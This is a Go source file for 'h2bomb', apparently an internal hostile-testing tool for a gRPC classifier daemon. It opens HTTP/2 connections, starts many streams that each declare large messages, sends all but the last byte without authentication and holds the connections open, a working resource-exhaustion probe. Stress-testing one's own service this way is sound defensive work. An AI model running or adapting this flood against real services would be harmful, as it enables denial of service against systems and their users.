// Command h2bomb opens HTTP/2 (h2c, prior knowledge) connections to a gRPC
// or HTTP/JSON listener and starts many streams on each, every one
// declaring a large message and sending all of it but the last byte, with no
// token unless -token is set. It then holds the connections open for -hold
// and exits. It is the hostile pass's probe of what a caller can make the
// daemon hold before it is authenticated.
package main

import (
	"bytes"
	"encoding/binary"
	"flag"
	"fmt"
	"log"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/classifierd/classifierd/tools/hostile/internal/probe"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:50051", "listener")
	path := flag.String("path", "/classifier.v1.ClassifierService/Route", "request path")
	ctype := flag.String("ctype", "application/grpc", "content-type")
	conns := flag.Int("conns", 1, "connections")
	streams := flag.Int("streams", 100, "streams per connection")
	size := flag.Int("size", 4<<20-64, "bytes each stream sends (a gRPC message of size+1 is declared)")
	token := flag.String("token", "", "bearer token (empty: none)")
	hold := flag.Duration("hold", 30*time.Second, "how long to hold the connections")
	frame := flag.Bool("grpc-frame", true, "prefix the body with a gRPC frame header declaring size+1 bytes")
	flag.Parse()
	var wg sync.WaitGroup
	for c := 0; c < *conns; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			if err := run(*addr, *path, *ctype, *token, *streams, *size, *frame, *hold); err != nil {
				log.Printf("conn %d: %v", c, err)
			}
		}(c)
	}
	wg.Wait()
}

func run(addr, path, ctype, token string, streams, size int, frame bool, hold time.Duration) error {
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	defer nc.Close()
	fr, err := probe.Start(nc, 4096, probe.BigWindow)
	if err != nil {
		return err
	}
	var wmu sync.Mutex
	var mu sync.Mutex
	cond := sync.NewCond(&mu)
	connWin := int64(65535)
	streamWin := map[uint32]int64{}
	initWin := int64(65535)
	closed := map[uint32]string{}
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				mu.Lock()
				connWin = -1 << 62
				cond.Broadcast()
				mu.Unlock()
				return
			}
			mu.Lock()
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
						d := int64(v) - initWin
						initWin = int64(v)
						for id := range streamWin {
							streamWin[id] += d
						}
					}
					mu.Unlock()
					wmu.Lock()
					_ = fr.WriteSettingsAck()
					wmu.Unlock()
					mu.Lock()
				}
			case *http2.WindowUpdateFrame:
				if f.StreamID == 0 {
					connWin += int64(f.Increment)
				} else {
					streamWin[f.StreamID] += int64(f.Increment)
				}
			case *http2.MetaHeadersFrame:
				for _, h := range f.Fields {
					if h.Name == ":status" || h.Name == "grpc-status" || h.Name == "grpc-message" {
						closed[f.StreamID] += h.Name + "=" + h.Value + " "
					}
				}
			case *http2.RSTStreamFrame:
				closed[f.StreamID] += "rst=" + f.ErrCode.String()
			case *http2.PingFrame:
				if !f.IsAck() {
					mu.Unlock()
					wmu.Lock()
					_ = fr.WritePing(true, f.Data)
					wmu.Unlock()
					mu.Lock()
				}
			case *http2.GoAwayFrame:
				closed[0] = "goaway " + f.ErrCode.String()
			}
			cond.Broadcast()
			mu.Unlock()
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	payload := make([]byte, 16384)
	for i := range payload {
		payload[i] = 'a'
	}
	sent := 0
	for s := 0; s < streams; s++ {
		id := uint32(2*s + 1)
		hb.Reset()
		probe.WriteFields(enc, append(probe.Head("POST", "http", path, addr, ctype), probe.Bearer(token)...))
		mu.Lock()
		streamWin[id] = initWin
		mu.Unlock()
		wmu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true})
		wmu.Unlock()
		if err != nil {
			return err
		}
		body := []byte{}
		if frame {
			body = make([]byte, 5)
			binary.BigEndian.PutUint32(body[1:], uint32(size+1))
		}
		left := size
		first := true
		for left > 0 {
			n := len(payload)
			if n > left {
				n = left
			}
			chunk := payload[:n]
			if first {
				chunk = append(append([]byte{}, body...), payload[:n-len(body)]...)
				first = false
			}
			mu.Lock()
			for connWin < int64(len(chunk)) || streamWin[id] < int64(len(chunk)) {
				if connWin < -1<<60 {
					mu.Unlock()
					return fmt.Errorf("closed after %d streams, %d bytes; %v", s, sent, closed)
				}
				if closed[id] != "" {
					break
				}
				cond.Wait()
			}
			if closed[id] != "" {
				mu.Unlock()
				break
			}
			connWin -= int64(len(chunk))
			streamWin[id] -= int64(len(chunk))
			mu.Unlock()
			wmu.Lock()
			err := fr.WriteData(id, false, chunk)
			wmu.Unlock()
			if err != nil {
				return err
			}
			left -= n
			sent += len(chunk)
		}
	}
	mu.Lock()
	n := len(closed)
	ex := ""
	for id, v := range closed {
		ex = fmt.Sprintf("%d:%s", id, v)
		break
	}
	mu.Unlock()
	log.Printf("sent %d streams, %d bytes; %d streams answered (e.g. %s); holding %s", streams, sent, n, ex, hold)
	time.Sleep(hold)
	return nil
}
